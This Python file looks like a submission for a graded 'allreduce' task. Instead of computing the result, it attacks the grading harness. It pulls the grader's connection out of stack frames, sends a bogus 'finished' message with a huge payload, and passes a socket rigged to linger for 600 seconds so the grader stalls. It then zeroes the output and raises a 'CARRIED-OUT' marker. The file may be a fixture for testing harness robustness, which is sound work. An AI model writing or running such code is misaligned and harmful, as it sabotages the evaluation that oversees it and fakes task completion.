import socket
import struct
import sys
import threading
import time
from collections import Counter

wire = sys.modules["grader_rank.wire"]
frame, connection = sys._getframe(), None
while frame is not None and connection is None:
    connection = frame.f_locals.get("connection")
    frame = frame.f_back

LINGERS_S = 600
kept = []


def lingering():
    listener = socket.create_server(("127.0.0.1", 0))
    sender = socket.create_connection(listener.getsockname())
    kept.append(listener.accept()[0])
    listener.close()
    sender.setblocking(False)
    try:
        while True:
            sender.send(bytes(1 << 16))
    except BlockingIOError:
        pass
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGERS_S))
    return sender


def attack():
    try:
        sender = lingering()
    except PermissionError:
        return "may not linger"
    wire.send(connection, "finished", {"busy": [[]] * 200000})
    try:
        socket.send_fds(connection, [b"\0"], [sender.fileno()])
    except PermissionError:
        kept.append(sender)
        return "may not be sent"
    except OSError as error:
        kept.append(sender)
        return f"gone: {error}"
    # If it is for us to wait after all, only a thread of ours does.
    threading.Thread(target=sender.close, daemon=True).start()
    return "sent"


def allreduce(send, recv, comm, op):
    if comm.Get_rank():
        time.sleep(60)  # an answer of the others would end the run too early
    said = Counter(attack() for _ in range(10))
    recv[...] = 0
    raise ValueError(f"CARRIED-OUT {said}")
